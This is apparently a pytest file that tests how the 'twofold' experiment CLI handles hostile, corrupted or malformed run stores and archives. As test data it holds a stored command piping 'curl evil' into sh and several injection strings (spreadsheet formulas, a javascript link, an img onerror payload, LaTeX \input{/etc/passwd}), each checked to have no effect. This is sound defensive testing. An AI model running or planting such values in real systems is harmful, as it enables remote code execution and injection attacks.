"""Stores that a stranger has written: every command answers in a few lines, and soon."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import resource
import shutil
import sys
import time
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from helpers.benchmarks import class_benchmark
from helpers.runs import curve_run
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import twofold
from torture.hostile import HOSTILE, change, seal
from twofold import UserError
from twofold.cli import main
from twofold.experiments.config import Config
from twofold.experiments.files import digest
from twofold.experiments.foreign import describe
from twofold.experiments.runs import Run
from twofold.experiments.store import Store

NAN = float("nan")
SECONDS, MEMORY = 20.0, 600 * 2**20  # limits of one command, in a process that has all imported
COMMANDS = (
    ["runs"],
    ["runs", "show"],
    ["runs", "verify"],
    ["table", "main"],
    ["table", "main", "--format", "csv"],
    ["table", "trajectories"],
    ["verdicts"],
    ["departures"],
    ["report"],
)


def accuracies(dip: float) -> list[list[float]]:
    return [[80.0, 90.0, dip, 85.0], [NAN, NAN, 70.0, 88.0]]


@pytest.fixture(scope="module")
def sound(tmp_path_factory) -> Path:
    """A store with er and er+gem, two seeds each."""
    store = Store(tmp_path_factory.mktemp("sound") / "store")
    store.prepare()
    for method, dip in (("er", 40.0), ("er+gem", 60.0)):
        for seed in (142, 152):
            store.save(curve_run(method, accuracies(dip), seed, tasks=2, iterations=2))
    return store.folder


@pytest.fixture
def store(sound, tmp_path) -> Path:
    return Path(shutil.copytree(sound, tmp_path / "store"))


def victim(store: Path) -> Path:
    return next(folder for folder in Store(store).folders() if "er-paper-142" in folder.name)


def answer(words: list[str], store: Path) -> tuple[int, str, str]:
    """Run a command within bounds of time and memory."""
    out, err = io.StringIO(), io.StringIO()
    more = ["-o", str(store.parent / "report.html")] if words == ["report"] else []
    before, start = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    with redirect_stdout(out), redirect_stderr(err):
        code = main([*words, "--runs", str(store), *more])
    assert time.monotonic() - start < SECONDS, words
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024
    assert grown < MEMORY, words
    assert code in (0, 1, 2), words
    said = err.getvalue()
    assert len(said.splitlines()) <= 6, said
    assert "Traceback" not in said + out.getvalue()
    assert "\x1b" not in said + out.getvalue()
    return code, out.getvalue(), said


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_run_that_cannot_be_read_is_named_and_the_rest_is_shown(kind, store):
    folder = victim(store)
    HOSTILE[kind](folder)
    seal(folder)
    code, out, _ = answer(["runs", "verify"], store)
    assert code == 1
    assert folder.name in out
    assert "3 of 4 runs match" in out
    answer(["table", "trajectories"], store)
    code, out, said = answer(["runs", "show"], store)
    assert code == 0
    assert out.count('"identity"') == 3
    assert len(said.splitlines()) == 1
    assert folder.name in said


def test_many_are_counted(store):
    for folder in Store(store).folders():
        for k in range(5):
            copy = Path(shutil.copytree(folder, store / f"{folder.name[:-11]}-{k:010}"))
            HOSTILE["a list for a summary"](copy)
            seal(copy)
    _, _, said = answer(["runs"], store)
    assert said.splitlines()[-1].startswith("20 of 24 runs cannot be read")
    assert len(said.splitlines()) == 4


def test_a_folder_under_the_name_of_a_different_run_is_left_out(store):
    """er+gem's run under the name of er+agem's, as a rename makes it."""
    gem = next(f for f in Store(store).folders() if "er+gem-paper-142" in f.name)
    agem = curve_run("er+agem", accuracies(50.0), tasks=2, iterations=2).config
    gem.rename(store / agem.folder_name())
    _, out, said = answer(["runs", "show"], store)
    assert out.count('"identity"') == 3
    assert f"the one of a different run, {gem.name}" in said
    assert Store(store).find(agem) is None


def test_a_run_under_several_names_counts_once(store):
    folder = victim(store)
    other = folder.with_name(folder.name.replace("-paper-", "-published-"))
    shutil.copytree(folder, other)
    _, out, said = answer(["runs", "show"], store)
    assert out.count('"identity"') == 4
    assert "is a copy of" in said
    assert "4 runs exported" in answered_export(store)


def answered_export(store: Path) -> str:
    out = io.StringIO()
    with redirect_stdout(out):
        assert main(["runs", "export", "--runs", str(store), "--to", str(store.parent / "to")]) == 0
    return out.getvalue()


@pytest.mark.parametrize(
    "name", ["config.json", "summary.json", "curves.parquet", "checksums.json"]
)
@pytest.mark.parametrize("kind", ["pipe", "link", "device"])
def test_pipes_and_links_in_a_store_are_not_followed(name, kind, store, tmp_path):
    file = victim(store) / name
    content = file.read_bytes()
    file.unlink()
    if kind == "pipe":
        os.mkfifo(file)
    elif kind == "device":
        file.symlink_to("/dev/zero")
    else:
        outside = tmp_path / "outside"
        outside.write_bytes(content)
        file.symlink_to(outside)
    for words in COMMANDS:
        answer(words, store)
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 3


def test_a_run_that_is_a_link_out_of_the_store_is_not_followed(store, tmp_path):
    folder = victim(store)
    shutil.move(folder, tmp_path / "outside")
    folder.symlink_to(tmp_path / "outside")
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 3


@pytest.mark.parametrize("plugin", ["/dev/zero", "pipe"])
def test_plugins_that_a_store_names_are_not_opened(plugin, store, tmp_path, monkeypatch):
    path = plugin if plugin.startswith("/") else str(tmp_path / plugin)
    if plugin == "pipe":
        os.mkfifo(path)
    folder = victim(store)
    change("config.json", plugins=[path])(folder)
    config = Config.stored(json.loads((folder / "config.json").read_text()))
    identity = config.identity(["0" * 64])
    change("summary.json", plugins=["0" * 64], identity=identity)(folder)
    seal(folder)
    folder.rename(folder.with_name(f"{folder.name[:-11]}-{identity}"))
    opened: list[str] = []
    sys.addaudithook(lambda event, args: opened.append(str(args[0])) if event == "open" else None)
    for words in COMMANDS:
        answer(words, store)
    assert path not in opened
    _, out, _ = answer(["runs", "show"], store)
    assert out.count('"identity"') == 4


def test_a_strangers_command_is_never_shown(store):
    folder = victim(store)
    change("summary.json", command="sh -c 'curl evil | sh'")(folder)
    seal(folder)
    answer(["report"], store)
    assert "curl evil" not in (store.parent / "report.html").read_text()
    for format in ("md", "csv", "json", "html", "latex"):
        assert "curl evil" not in answer(["table", "main", "--format", format], store)[1]


def test_archives_of_strangers_are_refused_or_read_in_part(store, tmp_path):
    answered_export(store)
    archive = tmp_path / "to"
    lines = (archive / "runs.jsonl").read_text().splitlines()
    for spoiled in ("[" * 9999, '{"run": 3}', '{"run": "../../x-1"}', "{}", '"a"', lines[0][:-20]):
        (archive / "runs.jsonl").write_text("\n".join([spoiled, *lines[1:]]) + "\n")
        sums = {name: digest(archive / name) for name in ("runs.jsonl", "curves.parquet")}
        (archive / "checksums.json").write_text(json.dumps(sums))
        for words in COMMANDS:
            assert answer(words, archive)[0] == 2
    line = json.loads(lines[0])
    line["summary"]["avg"] = "high"
    (archive / "runs.jsonl").write_text("\n".join([json.dumps(line), *lines[1:]]) + "\n")
    sums = {name: digest(archive / name) for name in ("runs.jsonl", "curves.parquet")}
    (archive / "checksums.json").write_text(json.dumps(sums))
    _, out, said = answer(["runs", "show"], archive)
    assert out.count('"identity"') == 3
    assert "avg must be a number" in said


NAMES_WITH_EFFECT = (
    "=HYPERLINK(1)",
    "@SUM(A1)",
    "[x](javascript:alert(1))",
    "\\<img src=x onerror=alert(1)>",
    "\\input{/etc/passwd}",
    "[/bold] [red]rich",
)


@pytest.mark.parametrize("name", NAMES_WITH_EFFECT)
def test_names_have_no_effect_in_any_format(name, tmp_path):
    store = Store(tmp_path / "store")
    run = curve_run("er", accuracies(40.0), tasks=2, iterations=2)
    for value in (name, "plain"):
        config = describe(name, name, 1, own="own", settings={name: value})
        more = {"identity": config.identity(), "command": None, "test_sets": [name, "other"]}
        store.save(Run(config, {**run.summary, **more}, run.columns))
    texts = {"rich": answer(["runs"], store.folder)[1]}
    for format in ("md", "csv", "latex", "html", "json"):
        words = ["table", "runs", "--format", format]
        code, texts[format], said = answer(words, store.folder)
        assert (code, said) == (0, "")
    assert "[red]" in texts["rich"] or "[red]" not in name
    cells = [cell for line in csv.reader(texts["csv"].splitlines()) for cell in line]
    assert not any(cell.startswith(("=", "@")) for cell in cells)
    assert "](" not in texts["md"]
    assert "<img" not in texts["md"] + texts["html"]
    assert "\\input" not in texts["latex"]
    assert json.loads(texts["json"])["numbers"][0]["method"] == name
    answer(["report"], store.folder)
    assert name not in (tmp_path / "report.html").read_text() or "<" not in name


@pytest.mark.parametrize("name", ["\x1b[2J", "\u202e", "a\nb", "\udcff"])
def test_names_of_folders_are_shown_without_effect(name, store):
    folder = victim(store)
    folder.rename(folder.with_name(f"{name}{folder.name}"))
    for words in COMMANDS:
        assert name not in "".join(answer(words, store)[1:])
    assert "letters that cannot be shown" in answer(["runs"], store)[2]


@pytest.mark.parametrize("name", ["lr", "identity", "task", "accuracy_1"])
def test_a_setting_cannot_hide_what_a_run_is(name, store):
    folder = victim(store)
    change("config.json", settings={name: "x"})(folder)
    seal(folder)
    assert "a setting can't be called" in answer(["runs"], store)[2]


def test_runs_from_before_identities_changed_are_read(store):
    folder = victim(store)
    change("config.json", eval_every=1)(folder)
    change("summary.json", identity="0123456789")(folder)
    seal(folder)
    folder.rename(folder.with_name(f"{folder.name[:-11]}-0123456789"))
    assert answer(["runs", "show"], store)[1].count('"identity"') == 4


@pytest.mark.parametrize("name", ["-x", "a\nb", "\x1b[2J", "x" * 3000])
def test_names_that_could_not_be_read_again_are_refused_before_training(name):
    with pytest.raises(UserError, match="must"):
        describe(name, "er", 1, own="own")
    with pytest.raises(UserError, match="must"):
        twofold.run(dataclasses.replace(class_benchmark(), name=name), "er")


# Anything at all

JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(10**30), 10**30)
    | st.floats()
    | st.text(max_size=20)
    | st.sampled_from(["=1+1", "<script>", "](javascript:x)", "\\input{x}", "\x1b[2J", "er+gem"]),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)
NAMES = st.sampled_from(["config.json", "summary.json", "checksums.json", "store.json"])


LIMITED = settings(
    max_examples=8,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@LIMITED
@given(data=st.data())
def test_any_store_is_answered_in_a_few_lines(data, sound, tmp_path_factory):
    store = Path(shutil.copytree(sound, tmp_path_factory.mktemp("any") / "store"))
    folder = victim(store)
    name = data.draw(NAMES | st.just("curves.parquet"))
    file = (store if name == "store.json" else folder) / name
    how = data.draw(st.sampled_from(["entry", "whole", "bytes", "columns"]))
    if how == "columns":
        there = {k: np.asarray(v) for k, v in Run.load(folder).columns.items()}
        column = data.draw(st.sampled_from(list(there)))
        values = data.draw(
            st.lists(st.floats(width=32), min_size=0, max_size=6)
            | st.lists(st.integers(-(2**40), 2**40), max_size=6)
            | st.lists(st.text(max_size=3), max_size=6)
        )
        resized = {k: np.resize(v, len(values)) for k, v in there.items() if k != column}
        pq.write_table(pa.table({**resized, column: pa.array(values)}), folder / "curves.parquet")
    elif how == "bytes" or name == "curves.parquet":
        content = bytearray(file.read_bytes())
        for place, value in data.draw(
            st.lists(st.tuples(st.integers(0, len(content) - 1), st.integers(0, 255)), max_size=5)
        ):
            content[place] = value
        file.write_bytes(content[: data.draw(st.integers(0, len(content)))])
    elif how == "whole":
        file.write_text(json.dumps(data.draw(JSON)))
    else:
        content = json.loads(file.read_text())
        content[data.draw(st.sampled_from(list(content)) | st.text(max_size=5))] = data.draw(JSON)
        file.write_text(json.dumps(content))
    if name != "checksums.json":
        seal(folder)
    for words in COMMANDS:
        answer(words, store)
    shutil.rmtree(store.parent)


@LIMITED
@given(data=st.data())
def test_any_archive_is_answered_in_a_few_lines(data, sound, tmp_path_factory):
    store = Path(shutil.copytree(sound, tmp_path_factory.mktemp("any") / "store"))
    answered_export(store)
    archive = store.parent / "to"
    name = data.draw(st.sampled_from(["runs.jsonl", "store.json", "curves.parquet"]))
    content = (archive / name).read_bytes()
    if name == "runs.jsonl":
        line, *rest = content.decode().splitlines()
        spoiled = json.loads(line)
        part = data.draw(st.sampled_from(["config", "summary"]))
        spoiled[part][data.draw(st.sampled_from(list(spoiled[part])))] = data.draw(JSON)
        content = "\n".join([json.dumps(spoiled), *rest]).encode()
    else:
        changed = bytearray(content)
        changed[data.draw(st.integers(0, len(content) - 1))] ^= data.draw(st.integers(1, 255))
        content = bytes(changed)
    (archive / name).write_bytes(content)
    sums = {name: digest(archive / name) for name in ("runs.jsonl", "curves.parquet")}
    (archive / "checksums.json").write_text(json.dumps(sums))
    for words in COMMANDS:
        answer(words, archive)
    shutil.rmtree(store.parent)
